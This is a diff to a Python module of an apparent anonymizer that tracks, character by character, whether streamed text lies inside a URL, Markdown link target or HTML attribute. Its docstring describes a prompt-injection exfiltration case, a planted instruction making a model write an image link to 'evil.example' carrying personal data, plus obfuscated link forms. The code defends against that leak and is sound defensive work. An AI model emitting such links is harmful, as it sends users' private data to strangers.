@@ -2,7 +2,8 @@
 Where a text is part of a link: places where a restored value would be sent to a stranger.
 
 A document can tell a model to write ``![](https://evil.example/?q=PERSON...)``; whoever shows the answer then fetches
-it.
+it. Links and tags are followed side by side, because one renderer reads ``a <b https://evil.example/`` as a tag and the
+next one as a link.
 """
 
 from __future__ import annotations
@@ -10,27 +11,47 @@ from __future__ import annotations
 import re
 from collections.abc import Callable
 
-__all__ = ["LinkContext"]
+from hybrid_guard.anonymizer.tags import TagContext
 
-_TRIGGER = re.compile(r"[:<\].(]")
+__all__ = ["LinkContext", "is_host", "may_be_host"]
+
+# Only where the next character, if it is known, can go on with a link: prose is full of colons and full stops.
+_TRIGGER = re.compile(r":(?=[/\\]|\Z)|\.(?=[\w-]|\Z)|\](?=[(:]|\Z)|\((?<![^lL]\()")
 _BLANKS = " \t\n\r\f\v"
-# Without a colon: `<https://` begins no tag but a link.
-_TAG_NAME = re.compile(r"[A-Za-z0-9_-]")
+_BLANK = re.compile(r"[ \t\n\r\f\v<]")
+_WORD = re.compile(r"[\w-]")
+_SLASHES = "/\\"
 _STEM = 3
 
 _State = Callable[["LinkContext", str], None]
+
+_LABEL = r"[\w\u00ad\u200b-\u200f\u2060\ufeff-]"
+_HOST = re.compile(rf"{_LABEL}{{0,253}}\\?\.{_LABEL}{{1,63}}\\?\.\w")
+_HOST_BEGUN = re.compile(rf"{_LABEL}{{0,253}}(?:\\?\.(?:{_LABEL}{{1,63}}(?:\\?\.|\\)?)?|\\)?")
+
+
+def is_host(text: str, place: int) -> bool:
+    """
+    Whether what ends at *place* is the beginning of a host name: ``.evil.example`` follows, or ``-x.evil.example``.
+
+    A name needs no scheme to be looked up or made a link of. One dot is no host of a stranger, but the end of a
+    sentence or of a file name.
+    """
+    return _HOST.match(text, place) is not None
+
+
+def may_be_host(text: str, place: int) -> bool:
+    """Whether the answer of `is_host` can change by what comes after *text*. Looks at no more than 381 characters."""
+    return _HOST_BEGUN.fullmatch(text, place) is not None
 
 
 class LinkContext:
     """
     Follows a text character by character, however it is cut into pieces.
 
-    Attributes:
-        inside: Whether the next character belongs to a URL, a Markdown link or image target, the target of a link
-            definition, a CSS ``url()`` or the value of an HTML attribute. Where renderers differ the answer is yes.
     """
 
-    __slots__ = ("_depth", "_escaped", "_outer", "_state", "_stem", "inside")
+    __slots__ = ("_depth", "_escaped", "_linked", "_outer", "_state", "_stem", "_tags")
 
     def __init__(self) -> None:
         self._state: _State = LinkContext._plain
@@ -38,10 +59,22 @@ class LinkContext:
         self._depth = 0
         self._escaped = False
         self._outer: _State = LinkContext._plain
-        self.inside = False
+        self._linked = False
+        self._tags = TagContext()
+
+    @property
+    def inside(self) -> bool:
+        """
+        Whether the next character belongs to a link.
+
+        That is a URL, a Markdown link or image target, the target of a link definition, a CSS ``url()`` or the value
+        of an HTML attribute. Where renderers differ the answer is yes.
+        """
+        return self._linked or self._tags.inside
 
     def advance(self, text: str) -> None:
         """Read *text*."""
+        self._tags.advance(text)
         place = 0
         while place < len(text):
             if self._state is LinkContext._plain:
@@ -51,13 +84,18 @@ class LinkContext:
                 if trigger is None:
                     return
                 place = stop
+            elif self._state is LinkContext._url:
+                end = _BLANK.search(text, place)
+                if end is None:
+                    return
+                place = end.start()
             self._state(self, text[place])
             self._stem = (self._stem + text[place])[-_STEM:]
             place += 1
 
-    def _go(self, state: _State, *, inside: bool = False) -> None:
+    def _go(self, state: _State, *, linked: bool = False) -> None:
         self._state = state
-        self.inside = inside
+        self._linked = linked
 
     def _again(self, char: str) -> None:
         self._go(LinkContext._plain)
@@ -66,27 +104,26 @@ class LinkContext:
     def _plain(self, char: str) -> None:
         if char == ":":
             self._go(LinkContext._colon)
-        elif char == "<":
-            self._go(LinkContext._angle)
         elif char == "]":
             self._go(LinkContext._bracket)
         elif char == "(" and self._stem.casefold() == "url":
             self._open_target()
         elif char == "." and self._stem.casefold() == "www":
-            self._go(LinkContext._url, inside=True)
+            self._go(LinkContext._www, linked=True)
         elif char == ".":
             self._depth = 0
             self._go(LinkContext._domain)
 
     def _colon(self, char: str) -> None:
-        if char == "/":
+        # Browsers read `https:\\host` like `https://host`.
+        if char in _SLASHES:
             self._go(LinkContext._colon_slash)
         else:
             self._again(char)
 
     def _colon_slash(self, char: str) -> None:
-        if char == "/":
-            self._go(LinkContext._url, inside=True)
+        if char in _SLASHES:
+            self._go(LinkContext._url, linked=True)
         else:
             self._again(char)
 
@@ -95,7 +132,13 @@ class LinkContext:
         if char.isalnum() or char == "-":
             self._depth += 1
         elif char in "/?#:" and self._depth > 1:
-            self._go(LinkContext._url, inside=True)
+            self._go(LinkContext._url, linked=True)
+        else:
+            self._again(char)
+
+    def _www(self, char: str) -> None:
+        if _WORD.match(char):
+            self._go(LinkContext._url, linked=True)
         else:
             self._again(char)
 
@@ -112,25 +155,27 @@ class LinkContext:
             self._again(char)
 
     def _definition(self, char: str) -> None:
+        # PRIVACY: a target may spell its slashes as references, so all of it counts once it has begun. A value that
+        # begins one leads to no stranger: `[1]: Ada`.
         if char == "<":
             self._outer = LinkContext._plain
-            self._go(LinkContext._angle_target, inside=True)
-        elif char in "/\\":
-            self._go(LinkContext._url, inside=True)
+            self._go(LinkContext._angle_target, linked=True)
+        elif char.isalnum() or char in "/\\&.?#%":
+            self._go(LinkContext._url, linked=True)
         elif char not in _BLANKS:
             self._again(char)
 
     def _open_target(self) -> None:
         self._depth = 0
         self._escaped = False
-        self._go(LinkContext._target_start, inside=True)
+        self._go(LinkContext._target_start, linked=True)
 
     def _target_start(self, char: str) -> None:
         if char == "<":
             self._outer = LinkContext._target
-            self._go(LinkContext._angle_target, inside=True)
+            self._go(LinkContext._angle_target, linked=True)
         elif char not in _BLANKS:
-            self._go(LinkContext._target, inside=True)
+            self._go(LinkContext._target, linked=True)
             self._target(char)
 
     def _target(self, char: str) -> None:
@@ -153,49 +198,7 @@ class LinkContext:
         elif char == "\\":
             self._escaped = True
         elif char in ">\n":
-            self._go(self._outer, inside=self._outer is LinkContext._target)
-
-    def _angle(self, char: str) -> None:
-        if _TAG_NAME.match(char) or char == "/":
-            self._go(LinkContext._tag_name)
-        else:
-            self._again(char)
-
-    def _tag_name(self, char: str) -> None:
-        if char in _BLANKS or char == "/":
-            self._go(LinkContext._tag)
-        elif not _TAG_NAME.match(char):
-            self._again(char)
-
-    def _tag(self, char: str) -> None:
-        if char == "=":
-            self._go(LinkContext._value, inside=True)
-        elif char == ">" or self._ends_block(char):
-            self._go(LinkContext._plain)
-
-    def _value(self, char: str) -> None:
-        if char == '"':
-            self._go(LinkContext._double_quoted, inside=True)
-        elif char == "'":
-            self._go(LinkContext._single_quoted, inside=True)
-        elif char == ">" or self._ends_block(char):
-            self._go(LinkContext._plain)
-        elif char not in _BLANKS:
-            self._go(LinkContext._bare, inside=True)
-
-    def _bare(self, char: str) -> None:
-        if char in _BLANKS:
-            self._go(LinkContext._tag)
-        elif char == ">":
-            self._go(LinkContext._plain)
-
-    def _double_quoted(self, char: str) -> None:
-        if char == '"':
-            self._go(LinkContext._tag)
-
-    def _single_quoted(self, char: str) -> None:
-        if char == "'":
-            self._go(LinkContext._tag)
+            self._go(self._outer, linked=self._outer is LinkContext._target)
 
     def _ends_block(self, char: str) -> bool:
         return char == "\n" and self._stem.rstrip(" \t\r").endswith("\n")
